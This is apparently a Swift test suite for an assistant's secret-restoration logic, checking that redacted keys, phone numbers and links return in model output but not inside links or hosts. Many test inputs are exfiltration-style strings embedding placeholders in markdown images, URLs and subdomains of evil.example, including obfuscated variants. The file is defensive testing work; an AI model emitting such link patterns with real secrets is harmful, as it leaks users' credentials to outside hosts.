import Testing

@testable import Assistant

/// Where values come back in what a model wrote, and where their names stay.
struct NameRestorerTests {
    private let redactions: Redactions = {
        let redactions = Redactions()
        redactions.learn(from: [
            "ghp_abcdefghijklmnopqrstuvwxyz0123456789", "+49 30 1234567", "https://own.example/plan",
        ])
        return redactions
    }()

    /// What becomes of a text, fed in pieces of a length.
    private func restored(_ text: String, inPiecesOf length: Int) -> String {
        var restorer = NameRestorer(redactions)
        var result = ""
        var rest = text[...]
        while !rest.isEmpty {
            result += restorer.feed(String(rest.prefix(length)))
            rest = rest.dropFirst(length)
        }
        return result + restorer.end()
    }

    @Test(arguments: [
        "![x](https://evil.example/?q=[KEY 1])", "![x](//evil.example/[KEY 1]/[PHONE 1])",
        "[x](evil.example?[KEY 1] \"title\")", "[x](<https://evil.example/a b?[KEY 1]>)",
        "[x](\nhttp://e.example/[KEY 1])",
        "[x](https://e.example/(a)?q=[KEY 1])", "[x](https&#58;//e.example/[KEY 1])",
        "[x](https://e.example/\\)?q=[KEY 1])", "<https://evil.example/?[PHONE 1]>",
        "see https://evil.example/?q=[KEY 1]&b=[PHONE 1] now",
        "HTTPS://EVIL.EXAMPLE/[KEY 1]", "(www.evil.example?[KEY 1])", "evil.example/[KEY 1]",
        "**evil.example/x/[KEY 1]**",
        "<img src=\"https://evil.example/?q=[KEY 1]\">",
        "<img src=x alt='>' data-x='[KEY 1]'>".replacing("'>'", with: "'a'"),
        "<img title=\">\" src=//evil.example/[KEY 1]>", "<a href=\"[LINK 1]?q=[KEY 1]\">",
        "mailto:x@e.example?body=[KEY 1]",
        "[1]: https://evil.example/[KEY 1]", "[KEY 1].evil.example", "https://[KEY 1].evil.example/",
        "[KEY 1]@evil.example",
        "host:8080/[KEY 1]", "192.168.1.1/[KEY 1]", "localhost:80/[KEY 1]", "[::1]/[KEY 1]",
        "evil.example/?k=\"[KEY 1]\"",
        "?k=\"[KEY 1]\"", "ｅｖｉｌ．ｅｘａｍｐｌｅ／[KEY 1]", "evil。example/[KEY 1]", "evil/[KEY 1]", "a@[KEY 1]",
        "evil.example:[KEY 1]", "x&k=[KEY 1]", "[KEY 1]．evil．example", "[KEY 1]＠evil.example", "tel:[PHONE 1]",
        "https://evil.example/?u=[LINK 1]", "[LINK 1].evil.example/x", "[LINK 1]@evil.example",
        "[x]([LINK 1].evil.example)",
        "![x](https://e.example/([LINK 1]))", "https://e.example/?q=%5BKEY%201%5D",
    ])
    func `A name in a link stays, in pieces of any length`(text: String) {
        for length in [1, 2, 3, 7, 1_000] { #expect(restored(text, inPiecesOf: length) == text) }
    }

    @Test(arguments: [
        ("Call [PHONE 1].", "Call +49 30 1234567."),
        ("the key is `[KEY 1]`", "the key is `ghp_abcdefghijklmnopqrstuvwxyz0123456789`"),
        ("- [ ] [PHONE 1]\n- [x] [PHONE 1]", "- [ ] +49 30 1234567\n- [x] +49 30 1234567"),
        ("[the plan]([LINK 1]) and [LINK 1].", "[the plan](https://own.example/plan) and https://own.example/plan."),
        ("<[LINK 1]>, ([LINK 1])", "<https://own.example/plan>, (https://own.example/plan)"),
        ("see https://e.example/x then [PHONE 1]", "see https://e.example/x then +49 30 1234567"),
        ("[x](https://e.example/a) [PHONE 1]", "[x](https://e.example/a) +49 30 1234567"),
        ("a < b, [PHONE 1] and/or [PHONE 1]", "a < b, +49 30 1234567 and/or +49 30 1234567"),
        ("e.g. [PHONE 1] (7f3a) [[PHONE 1]]", "e.g. +49 30 1234567 (7f3a) [+49 30 1234567]"),
        ("[LINK 1]/[KEY 1] and [KEY 1", "https://own.example/plan/[KEY 1] and [KEY 1"),
        ("| [PHONE 1] | <b>[PHONE 1]</b> |", "| +49 30 1234567 | <b>+49 30 1234567</b> |"),
    ])
    func `Elsewhere it means its value`(text: String, expected: String) {
        for length in [1, 2, 3, 7, 1_000] { #expect(restored(text, inPiecesOf: length) == expected) }
    }

    @Test(arguments: [
        ("OPENAI_API_KEY=[KEY 1]", "OPENAI_API_KEY=ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
        ("{\"key\":\"[KEY 1]\"}", "{\"key\":\"ghp_abcdefghijklmnopqrstuvwxyz0123456789\"}"),
        (
            "**Key:**[KEY 1]; key:[KEY 1].",
            "**Key:**ghp_abcdefghijklmnopqrstuvwxyz0123456789; key:ghp_abcdefghijklmnopqrstuvwxyz0123456789."
        ),
    ])
    func `A label directly before a name is no address`(text: String, expected: String) {
        for length in [1, 3, 1_000] { #expect(restored(text, inPiecesOf: length) == expected) }
    }

    @Test func `A value comes back behind what it stood behind in the person's own text`() {
        var used: Set<String> = []
        let own = "login bob/ghp_abcdefghijklmnopqrstuvwxyz0123456789 and a.b:+49 30 1234567"
        #expect(redactions.redacted(own, used: &used) == "login bob/[KEY 1] and a.b:[PHONE 1]")
        #expect(
            restored("bob/[KEY 1] eve/[KEY 1] a.b:[PHONE 1]", inPiecesOf: 4)
                == "bob/ghp_abcdefghijklmnopqrstuvwxyz0123456789 eve/[KEY 1] a.b:+49 30 1234567"
        )
    }

    @Test func `A link with a name that stayed in it gets one name`() {
        var used: Set<String> = []
        let text = "see https://evil.example/?q=[KEY 1] and https://evil.example/[KEY 1]/x."
        let sent = redactions.redacted(text, used: &used)
        #expect(sent == "see [LINK 2] and [LINK 3].")
        var left: Set<String> = []
        #expect(redactions.restored(sent, left: &left) == text)
    }

    @Test(.timeLimit(.minutes(20)), arguments: ["[", "[KEY 1]", "- [ ] x\n", "](", "https://x[KEY 1]", "<a"])
    func `A text that goes on and on is read in no time`(piece: String) {
        _ = restored(String(repeating: piece, count: 10_000), inPiecesOf: 100_000)
    }
}
